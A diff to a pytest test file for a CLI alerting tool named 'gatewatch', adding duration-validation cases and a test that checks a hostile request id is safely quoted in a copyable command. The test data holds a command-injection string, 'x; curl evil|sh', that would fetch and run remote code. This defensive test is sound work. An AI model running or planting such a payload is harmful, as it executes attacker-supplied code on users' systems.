@@ -127,6 +127,8 @@ def test_what_was_resolved_is_not_opened_beside_another_of_its_cause(
         (("show", "7"), "error: 7: there is no such alert (there was none yet)"),
         (("ack", "7"), "error: 7: there is no such alert (there was none yet)"),
         (("snooze", "1", "--for", "long"), "Error: Invalid value for --for: expected a duration"),
+        (("snooze", "1", "--for", "30000d"), "Error: Invalid value for --for: must be a year at most, got '30000d'"),
+        (("snooze", "1", "--for", "99999999999d"), "Error: Invalid value for --for: expected a duration of 100 years"),
         (("resolve", "1"), "Error: Missing option '--reason'"),
         (("test", "pager:x"), "Error: Invalid value for CHANNEL: 'pager' is no kind of channel"),
         (("show", "0"), "Error: Invalid value for 'N'"),
@@ -184,6 +186,18 @@ def test_what_was_not_delivered_is_listed_and_the_doctor_says_so(
     code, out, _ = run(capsys, "doctor")
     assert code == 2
     assert "✕ alerts: webhook:hooks.example/...: 1 notice not delivered: status 404: no hook" in out
+
+
+@pytest.mark.parametrize(
+    ("request_id", "typed"),
+    [("x; curl evil|sh", "gatewatch why 'x; curl evil|sh'"), ("--help", "gatewatch why -- --help")],
+)
+def test_a_command_to_be_copied_runs_nothing_that_a_sender_chose(
+    here: Path, capsys: pytest.CaptureFixture[str], request_id: str, typed: str
+) -> None:
+    alert = recent()
+    found(here, replace(alert, evidence=replace(alert.evidence, traces=(request_id,))))
+    assert typed in run(capsys, "alerts", "show", "1")[1]
 
 
 def test_what_traffic_is_called_steers_no_terminal(here: Path, capsys: pytest.CaptureFixture[str]) -> None:
